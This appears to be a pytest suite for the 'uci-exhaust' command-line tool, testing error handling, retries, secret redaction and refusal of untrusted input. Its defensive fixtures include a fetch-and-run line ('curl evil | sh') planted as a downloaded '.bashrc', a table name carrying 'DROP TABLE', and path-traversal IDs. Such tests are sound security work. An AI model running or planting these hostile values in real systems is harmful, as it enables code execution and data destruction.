"""Every failure of ``uci-exhaust`` is one line of stderr with its exit code (1 the service, the network
or the warehouse; 2 bad input; 3 no such job), no traceback, no secret; bad numbers are refused before
anything is sent, and a 4xx answer is never retried.

The client commands talk to the emulator through a small counting proxy, which shows how many calls
reached the service.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests

from airflow_provider_uci.exhaust.load import load_exhaust
from tests.benchmarks.hostile_input import TARA_PRIVATE, TARA_RESPONSE, table_state
from tests.support.services import Emulator, postgres_database

SCRIPT = Path(sys.executable).with_name("uci-exhaust")
API_KEY = "dev-key"
SECRET = "pw-9c2e7a1f"


class CountingProxy:
    """An HTTP proxy to ``target`` that keeps the method and path of every call it passes on."""

    def __init__(self, target: str) -> None:
        self.target = target
        self.calls: list[tuple[str, str]] = []
        proxy = self

        class Forward(BaseHTTPRequestHandler):
            def forward(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else None
                proxy.calls.append((self.command, self.path))
                headers = {
                    name: value
                    for name, value in self.headers.items()
                    if name.lower() not in ("host", "content-length", "connection", "accept-encoding")
                }
                answer = requests.request(
                    self.command,
                    proxy.target + self.path,
                    headers=headers,
                    data=body,
                    timeout=60,
                    allow_redirects=False,
                )
                self.send_response(answer.status_code)
                for name in ("Content-Type", "Retry-After"):
                    if name in answer.headers:
                        self.send_header(name, answer.headers[name])
                self.send_header("Content-Length", str(len(answer.content)))
                self.end_headers()
                self.wfile.write(answer.content)

            do_GET = do_POST = forward

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Forward)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def api(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/api"

    def __enter__(self) -> CountingProxy:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def proxy(emulator: Emulator) -> Iterator[CountingProxy]:
    with CountingProxy(emulator.root) as running:
        yield running


def uci(
    *args: str, home: Path, url: str = "", channel: str = "dev-channel", api_key: str = API_KEY
) -> subprocess.CompletedProcess[str]:
    env = {name: value for name, value in os.environ.items() if not name.startswith("UCI_EXHAUST_")}
    env.update(
        {
            "UCI_EXHAUST_URL": url,
            "UCI_EXHAUST_CHANNEL": channel,
            "UCI_EXHAUST_API_KEY": api_key,
            "UCI_EXHAUST_ZIP_PASSWORD": SECRET,
            "AIRFLOW_HOME": str(home),
        }
    )
    command = [str(SCRIPT)] if SCRIPT.exists() else [sys.executable, "-m", "airflow_provider_uci.cli"]
    return subprocess.run(
        [*command, *args], capture_output=True, text=True, timeout=180, env=env, stdin=subprocess.DEVNULL
    )


def one_line(done: subprocess.CompletedProcess[str], code: int) -> str:
    """The failure's line, checked: the exit code, one line on stderr, nothing on stdout, no traceback or secret."""
    assert done.returncode == code, (done.returncode, done.stderr)
    assert done.stdout == ""
    assert done.stderr.count("\n") == 1 and done.stderr.startswith("uci-exhaust"), done.stderr
    assert "Traceback" not in done.stderr and SECRET not in done.stderr and "sig=" not in done.stderr
    return done.stderr.strip()


@pytest.mark.parametrize("limit", ["-5", "0", "10001"])
def test_a_list_limit_out_of_bounds_is_refused_before_anything_is_sent(
    limit: str, proxy: CountingProxy, tmp_path: Path
) -> None:
    line = one_line(uci("list", "--tag", "t", "--limit", limit, home=tmp_path, url=proxy.api), 2)
    assert (
        line == f"uci-exhaust: error: --limit: must be 1 to 10000 (the service answers a limit below 1 with "
        f"HTTP 500) (got {limit})"
    )
    assert proxy.calls == []


def test_a_4xx_answer_is_not_retried(proxy: CountingProxy, tmp_path: Path) -> None:
    forbidden = one_line(uci("list", "--tag", "t", home=tmp_path, url=proxy.api, channel="not-my-channel"), 1)
    assert "HTTP 403" in forbidden and "not authorized" in forbidden
    assert proxy.calls == [("GET", "/api/dataset/v1/request/list/t?limit=100")]

    proxy.calls.clear()
    refused = one_line(
        uci("status", "--tag", "t", "--request-id", "R", home=tmp_path, url=proxy.api, api_key="not-a-key"), 1
    )
    assert "HTTP 401" in refused and "not-a-key" not in refused
    assert len(proxy.calls) == 1


def test_a_429_is_retried_through_the_same_proxy(start_emulator, tmp_path: Path) -> None:
    """The contrast: what the service may mend is retried (each retry a warning), and the proxy sees every call."""
    emulator = start_emulator("--fault-429", "list=1", "--retry-after", "0")
    with CountingProxy(emulator.root) as proxy:
        done = uci("list", "--tag", "t", home=tmp_path, url=proxy.api)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    *retries, failure = done.stderr.strip().splitlines()
    assert failure == "uci-exhaust: error: list: gave up after 6 attempts; last: HTTP 429 rate limited"
    assert len(retries) == 5 and all("HTTP 429 rate limited; retrying" in line for line in retries)
    assert len(proxy.calls) == 6


def test_an_unknown_job_exits_3(proxy: CountingProxy, tmp_path: Path) -> None:
    line = one_line(
        uci("status", "--tag", "nothing-here", "--request-id", "0" * 32, home=tmp_path, url=proxy.api), 3
    )
    assert "no job available" in line


@pytest.mark.postgres
def test_a_warehouse_that_cannot_be_reached_fails_with_exit_code_1_and_no_password(tmp_path: Path) -> None:
    url = f"postgresql://nobody:{SECRET}@127.0.0.1:1/x"
    line = one_line(
        uci(
            "load",
            "--response",
            str(TARA_RESPONSE),
            "--private",
            str(TARA_PRIVATE),
            "--warehouse",
            url,
            "--rejects",
            str(tmp_path / "r.jsonl"),
            home=tmp_path,
        ),
        1,
    )
    assert line.startswith(
        "uci-exhaust: error: warehouse: cannot connect to postgresql://nobody:***@127.0.0.1:1/x: "
    )
    assert "Connection refused" in line


def test_a_sqlite_warehouse_that_cannot_be_opened_fails_with_exit_code_1(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    line = one_line(
        uci(
            "load",
            "--response",
            str(TARA_RESPONSE),
            "--private",
            str(TARA_PRIVATE),
            "--warehouse",
            f"sqlite:///{tmp_path}/file/w.db",
            "--rejects",
            str(tmp_path / "r.jsonl"),
            home=tmp_path,
        ),
        1,
    )
    assert line.startswith(f"uci-exhaust: error: warehouse: cannot open sqlite:///{tmp_path}/file/w.db: ")


@pytest.mark.parametrize(
    ("table", "rule"),
    [
        ("sqlite_master", "must not start with sqlite_ or pg_"),
        ("uci_responses_users", "the names of another table's side tables (here 'uci_responses''s _users)"),
        ("uci_responses_loads", "(here 'uci_responses''s _loads)"),
        ("x; DROP TABLE uci_responses", "must be a plain identifier"),
    ],
)
@pytest.mark.parametrize("backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def test_a_table_name_that_collides_is_refused_with_exit_code_2(
    table: str, rule: str, backend: str, tmp_path: Path
) -> None:
    with postgres_database() if backend == "postgres" else _sqlite(tmp_path) as url:
        load_exhaust(response_csv=TARA_RESPONSE, private=TARA_PRIVATE, warehouse_url=url)
        with _open(url) as warehouse:
            before = (
                warehouse.fetch("uci_responses"),
                warehouse.fetch_users("uci_responses"),
                len(warehouse.loads("uci_responses")),
            )
        line = one_line(
            uci(
                "load",
                "--response",
                str(TARA_RESPONSE),
                "--private",
                str(TARA_PRIVATE),
                "--warehouse",
                url,
                "--table",
                table,
                "--rejects",
                str(tmp_path / "r.jsonl"),
                home=tmp_path,
            ),
            2,
        )
        assert line.startswith("uci-exhaust: error: table: ") and rule in line
        with _open(url) as warehouse:
            assert (
                warehouse.fetch("uci_responses"),
                warehouse.fetch_users("uci_responses"),
                len(warehouse.loads("uci_responses")),
            ) == before


def _sqlite(tmp_path: Path):
    from contextlib import nullcontext

    return nullcontext(f"sqlite:///{tmp_path}/w.db")


def _open(url: str):
    from airflow_provider_uci.exhaust.warehouse import open_warehouse

    return open_warehouse(url)


def test_bad_input_to_load_is_one_line_with_exit_code_2(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/w.db"
    load_exhaust(response_csv=TARA_RESPONSE, private=TARA_PRIVATE, warehouse_url=url)
    before = table_state(tmp_path / "w.db")
    missing = one_line(
        uci("load", "--response", str(tmp_path / "nope.csv"), "--warehouse", url, home=tmp_path), 2
    )
    assert missing == "uci-exhaust: error: response: no such file 'nope.csv'"
    usage = one_line(
        uci(
            "load",
            "--response",
            str(TARA_RESPONSE),
            "--warehouse",
            url,
            "--max-rejects",
            "many",
            home=tmp_path,
        ),
        2,
    )
    assert usage == (
        "uci-exhaust load: error: argument --max-rejects: invalid int value: 'many' "
        "(see uci-exhaust load --help)"
    )
    negative = one_line(
        uci(
            "load",
            "--response",
            str(TARA_RESPONSE),
            "--warehouse",
            url,
            "--max-unzipped-mb",
            "0",
            home=tmp_path,
        ),
        2,
    )
    assert negative == "uci-exhaust: error: --max-unzipped-mb: must be at least 1, got 0"
    key = one_line(
        uci(
            "load",
            "--response",
            str(TARA_RESPONSE),
            "--private",
            str(tmp_path / "u.zip"),
            "--warehouse",
            url,
            home=tmp_path,
        ),
        2,
    )
    assert key == "uci-exhaust: error: private: no such file 'u.zip'"
    assert table_state(tmp_path / "w.db") == before


# -- names and files the command line must not trust ---------------------------------------------------------


def test_a_conversation_id_that_is_not_a_uuid_is_refused_naming_its_flag(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/w.db"
    line = one_line(
        uci(
            "load",
            "--response",
            str(TARA_RESPONSE),
            "--warehouse",
            url,
            "--conversation-id",
            "../../../outside/pwned",
            home=tmp_path,
        ),
        2,
    )
    assert line.startswith("uci-exhaust: error: --conversation-id: must be a UUID")
    assert not (tmp_path / "w.db").exists()
    submitted = one_line(
        uci(
            "submit",
            "--conversation-id",
            "../escaped",
            "--dataset",
            "response",
            "--from-date",
            "2026-03-01",
            "--to-date",
            "2026-03-01",
            home=tmp_path,
            url="http://127.0.0.1:9/api",
        ),
        2,
    )
    assert submitted.startswith("uci-exhaust: error: --conversation-id: must be a UUID")


def test_a_table_name_with_a_trailing_line_end_is_refused(tmp_path: Path) -> None:
    line = one_line(
        uci(
            "load",
            "--response",
            str(TARA_RESPONSE),
            "--warehouse",
            f"sqlite:///{tmp_path}/w.db",
            "--table",
            "uci_responses_users\n",
            home=tmp_path,
        ),
        2,
    )
    assert line.startswith("uci-exhaust: error: table: must be a plain identifier")


def _node(kind: str, path: Path, target: Path) -> None:
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "symlink to a file":
        path.symlink_to(target)
    elif kind == "symlink to stdout":
        path.symlink_to("/proc/self/fd/1")
    elif kind == "folder":
        path.mkdir()
    else:  # a character device like /dev/null (1, 3), made here: the system's own is never put at risk
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))


@pytest.mark.parametrize(
    "kind",
    [
        "fifo",
        "symlink to a file",
        "symlink to stdout",
        "folder",
        pytest.param(
            "device", marks=pytest.mark.skipif(os.geteuid() != 0, reason="only root makes device nodes")
        ),
    ],
)
def test_report_out_that_is_not_a_regular_file_is_refused_and_leaves_nothing(
    kind: str, tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path}/w.db"
    load_exhaust(response_csv=TARA_RESPONSE, private=TARA_PRIVATE, warehouse_url=url)
    target = tmp_path / "kept.txt"
    target.write_text("kept\n")
    out = tmp_path / "pages" / "report.html"
    out.parent.mkdir()
    _node(kind, out, target)
    before = os.lstat(out)

    line = one_line(uci("report", "--warehouse", url, "--out", str(out), home=tmp_path), 2)

    assert line.startswith(f"uci-exhaust: error: --out: '{out}' is ")
    after = os.lstat(out)
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
    assert target.read_text() == "kept\n"
    assert sorted(path.name for path in out.parent.iterdir()) == ["report.html"], "no .partial left behind"


def test_a_report_is_private(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/w.db"
    load_exhaust(response_csv=TARA_RESPONSE, private=TARA_PRIVATE, warehouse_url=url)
    out = tmp_path / "made" / "report.html"
    done = uci("report", "--warehouse", url, "--out", str(out), home=tmp_path)
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and stat.S_IMODE(out.parent.stat().st_mode) == 0o700


def test_download_saves_under_fixed_names_not_those_the_service_chose(
    emulator: Emulator, tmp_path: Path
) -> None:
    from tests.support.api import ExhaustApi, new_tag, submit_body

    tag = new_tag()
    answer = ExhaustApi(emulator.api).submit(submit_body(tag))
    assert answer.status_code == 200, answer.text
    request_id = answer.json()["result"]["requestId"]
    requests.post(
        f"{emulator.root}/admin/jobs/{request_id}/file",
        params={"tag": f"{tag}:dev-channel", "name": ".bashrc"},
        data=b"curl evil | sh\n",
        timeout=60,
    ).raise_for_status()
    out = tmp_path / "home"
    out.mkdir()
    (out / ".bashrc").write_text("# mine\n")

    done = uci(
        "download",
        "--tag",
        tag,
        "--request-id",
        request_id,
        "--out",
        str(out),
        home=tmp_path,
        url=emulator.api,
    )

    assert done.returncode == 0, done.stderr
    assert (out / ".bashrc").read_text() == "# mine\n"
    assert (out / "uci-response-exhaust.csv").read_bytes() == b"curl evil | sh\n"
